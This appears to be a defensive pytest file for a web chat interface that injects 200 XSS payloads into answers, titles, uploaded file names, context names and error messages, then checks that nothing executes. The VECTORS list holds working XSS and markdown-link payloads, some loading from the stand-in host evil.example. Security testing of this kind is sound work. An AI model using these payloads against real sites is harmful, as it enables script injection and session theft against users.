"""200 texts that would run, load or hide something, in every place where the page shows texts of others."""

import itertools
import json
from pathlib import Path

import pytest

from devkit.doubles.openai_double import Script
from devkit.system import principal_headers, upload
from devkit.visits import ADMINISTRATOR, Visit

RUN = "window.ran=1"
HOST = "https://evil.example"
VECTORS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script src={HOST}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={HOST}/pixel.png>",
    f'<img src="x" onerror="{RUN}" //',
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text x=20 y=20>a</text></a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={HOST}/x></object>",
    f"<embed src={HOST}/x>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<form action={HOST}><input name=q><button>go</button></form>",
    f"<a href=javascript:{RUN}>a</a>",
    f"<link rel=stylesheet href={HOST}/x.css>",
    f"<style>@import '{HOST}/x.css';</style>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<base href={HOST}/>",
    f"<template><script>{RUN}</script></template>",
    f"<p style=background:url({HOST}/x)>p</p>",
    f"<!--><script>{RUN}</script-->",
    f"'\"--></style></script><script>{RUN}</script>",
    f"[a](javascript:{RUN})",
    f"[a](JaVaScRiPt:{RUN})",
    f"[a](java\tscript:{RUN})",
    f"[a](&#106;avascript:{RUN})",
    f"[a](javascript&colon;{RUN})",
    f"[a](\x01javascript:{RUN})",
    f"[a](data:text/html,<script>{RUN}</script>)",
    f"[a](vbscript:{RUN})",
    "[a](https://user:secret@evil.example/)",
    f"![a]({HOST}/pixel.png)",
    f"![a](javascript:{RUN})",
    f"[![a]({HOST}/a.png)](javascript:{RUN})",
    f"[a]: javascript:{RUN}\n[a]",
    f"<javascript:{RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"\u202ejavascript:{RUN}\u202c",
    "\u200b\u2066https://evil.example\u2069\ufeff",
    '[Page 1 of Document "secret.pdf"]',
    "\ue0000\ue001",
    f"javascript:{RUN}//",
]
WRAPS = ["{}", "> {}", "| {} |\n|---|\n| {} |", "- *{}* `{}`"]
PAYLOADS = [wrap.format(*[vector] * 2) for wrap, vector in itertools.product(WRAPS, VECTORS)]
ALLOWED = {
    *"html head body meta title link script noscript a abbr article aside bdi blockquote br button".split(),
    *"code dd del details dialog div dl dt em fieldset figcaption figure footer form h1 h2 h3 header".split(),
    *"hr img input kbd label legend li main mark nav ol optgroup option p pre progress rect select".split(),
    *"small span strong summary svg table tbody td textarea th thead tr ul use".split(),
}
SEEN = """
(() => {
  const links = [...document.querySelectorAll("body a")].map((each) => each.href);
  const pictures = [...document.querySelectorAll("body img")].map((each) => each.src);
  const handlers = [...document.querySelectorAll("body *")]
    .flatMap((each) => [...each.attributes]).filter((each) => /^on|^style$|^srcdoc$/i.test(each.name));
  const tags = [...new Set([...document.querySelectorAll("*")].map((each) => each.localName))];
  return { ran: window.ran ?? null, tags, links, pictures, handlers: handlers.map((each) => each.name) };
})()
"""


async def check(visit: Visit) -> None:
    """Nothing ran, nothing is in the page but what it makes itself, and no address leads elsewhere."""
    seen = await visit.page.value(SEEN)
    assert seen["ran"] is None
    assert set(seen["tags"]) <= ALLOWED, set(seen["tags"]) - ALLOWED
    assert [each for each in seen["handlers"] if each != "style"] == []
    assert all(each.startswith(("http://127.0.0.1", "https://", "mailto:")) for each in seen["links"]), seen[
        "links"
    ]
    assert not any("secret@" in each for each in seen["links"])
    assert all(each.startswith(("http://127.0.0.1", "blob:")) for each in seen["pictures"]), seen["pictures"]


def file_name(payload: str, number: int) -> str:
    """The payload as far as a file may be called so."""
    return (
        "".join(each for each in payload if each.isprintable() and each not in '/\\"')[:80] + f" {number}.txt"
    )


@pytest.mark.campaign
async def test_payloads_in_answers_questions_and_titles(visit: Visit) -> None:
    assert len(PAYLOADS) == 200
    batches = [PAYLOADS[start : start + 40] for start in range(0, 200, 40)]
    for number, batch in enumerate(batches, 1):
        visit.model.script = Script(text="\n\n".join(batch), tokens=60, delay_ms=2)
        await visit.ask("\n".join(batch), answers=number)
        await check(visit)
    conversation = await visit.conversation()
    with visit.client() as client:
        for payload in PAYLOADS:
            title = payload.replace("\n", " ")[:100] or "-"
            changed = client.patch(f"/conversations/{conversation}", json={"title": title})
            assert changed.status_code in (200, 204, 422), changed.text
    await visit.page.reload()
    await visit.page.until(f"document.querySelectorAll('.turn.is-answered').length >= {len(batches)}")
    await check(visit)
    shown = " ".join(await visit.texts(".question p"))
    assert f"<img src=x onerror={RUN}>" in shown


@pytest.mark.campaign
async def test_payloads_in_files_and_their_names(visit: Visit, tmp_path: Path) -> None:
    file = tmp_path / "rules.txt"
    file.write_text("The quay opens at seven.\n" + "\n\n".join(PAYLOADS))
    await visit.attach(file)
    conversation = await visit.conversation()
    named = [
        (file_name(payload, number), f"# {payload}\n\nThe quay opens at {number}.".encode())
        for number, payload in enumerate(PAYLOADS)
    ]
    with visit.client() as client:
        for start in range(0, len(named), 10):
            some = named[start : start + 10]
            assert upload(client, conversation, *some).status_code in (201, 422)
    await visit.page.until("document.querySelectorAll('.file').length >= 150")
    await check(visit)
    await visit.ask("When does the quay open?")
    await visit.click("button.marker")
    await visit.sees(".page-text")
    await check(visit)
    kept = await visit.page.value("JSON.stringify([{...localStorage}, {...sessionStorage}])")
    assert "onerror" not in kept


@pytest.mark.campaign
async def test_payloads_in_names_of_contexts_and_in_problems(visit: Visit) -> None:
    with visit.client() as client:
        client.headers.update(principal_headers(visit.organization, visit.user, ADMINISTRATOR))
        for payload in VECTORS:
            name = payload.replace("\n", " ")[:110]
            made = client.post("/contexts", json={"type": "organization", "name": name})
            assert made.status_code in (201, 422), made.text
    await visit.page.value("document.getElementById('plus').click()")
    await visit.page.until("document.querySelectorAll('#plus-menu .toggle').length > 40")
    await check(visit)
    await visit.page.value("location.hash = '#/contexts'")
    await visit.page.until("document.querySelectorAll('.rows a').length > 20")
    await check(visit)
    await visit.page.value("location.hash = '#/'")
    for payload in VECTORS[:10]:
        problem = {"status": 500, "detail": payload, "code": payload, "trace_id": payload, "retryable": True}
        await visit.page.answer("*/api/orc/stream", 500, json.dumps(problem), content_type="application/json")
        await visit.page.until("document.getElementById('question')")
        await visit.write("Why?")
        await visit.page.press("Enter")
        await visit.sees(".note.is-bad")
        await check(visit)
        await visit.page.answer_no_more()
        await visit.click("#new")
    visit.page.problems.clear()
